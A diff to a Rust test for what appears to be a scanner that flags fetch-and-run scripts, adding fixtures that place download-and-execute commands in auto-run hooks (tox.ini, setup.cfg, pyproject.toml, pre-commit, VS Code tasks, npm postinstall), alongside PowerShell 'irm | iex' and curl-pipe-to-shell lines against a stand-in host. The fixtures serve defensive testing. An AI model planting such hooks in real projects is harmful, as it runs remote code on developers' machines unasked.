@@ -12,6 +12,12 @@ fn scripts_are_told_and_those_that_fetch_and_run_are_refused() {
         ("setup.bat", "powershell -c \"irm https://x.test/i | iex\"\n".to_owned()),
         ("setup.ps1", "iex (New-Object Net.WebClient).DownloadString('https://x.test/i')\n".to_owned()),
         ("setup.cmd", format!("powershell -enc {}\n", "SQBFAFgA".repeat(6))),
+        ("tox.ini", format!("[testenv]\ncommands_pre =\n    {pipe}")),
+        ("setup.cfg", format!("[aliases]\nbuild = !{pipe}")),
+        ("pyproject.toml", format!("[tool.hatch.envs.default.scripts]\nsetup = '{}'\n", pipe.trim())),
+        (".pre-commit-config.yaml", format!("- id: x\n  entry: bash -c '{}'\n", pipe.trim())),
+        (".vscode/tasks.json", format!("{{\n\"command\": \"{}\"\n}}\n", pipe.trim())),
+        ("package.json", format!("{{\n\"postinstall\": \"{}\"\n}}\n", pipe.trim())),
         ("hook.js", format!("require('child_process').execSync('{}')\n", pipe.trim())),
     ] {
         let finding = one(path, text.as_bytes());
@@ -43,6 +49,9 @@ fn scripts_are_told_and_those_that_fetch_and_run_are_refused() {
         ("notes.md", "#!/bin/sh begins a script.\n"),
         ("lib.rs.txt", "#![no_std]\n"),
         ("app.css", "a { b: c }\n"),
+        ("tox.ini", "[testenv]\ncommands =\n    pytest\n    # curl https://x.test/i | sh\n"),
+        (".vscode/settings.json", "{\"python.linting\": true}\n"),
+        ("pyproject.toml", "[tool.hatch.envs.default.scripts]\ntest = 'pytest'\n"),
     ] {
         let findings = found(path, text.as_bytes());
         assert!(findings.is_empty() || path == "notes.md", "{path}: {findings:#?}");
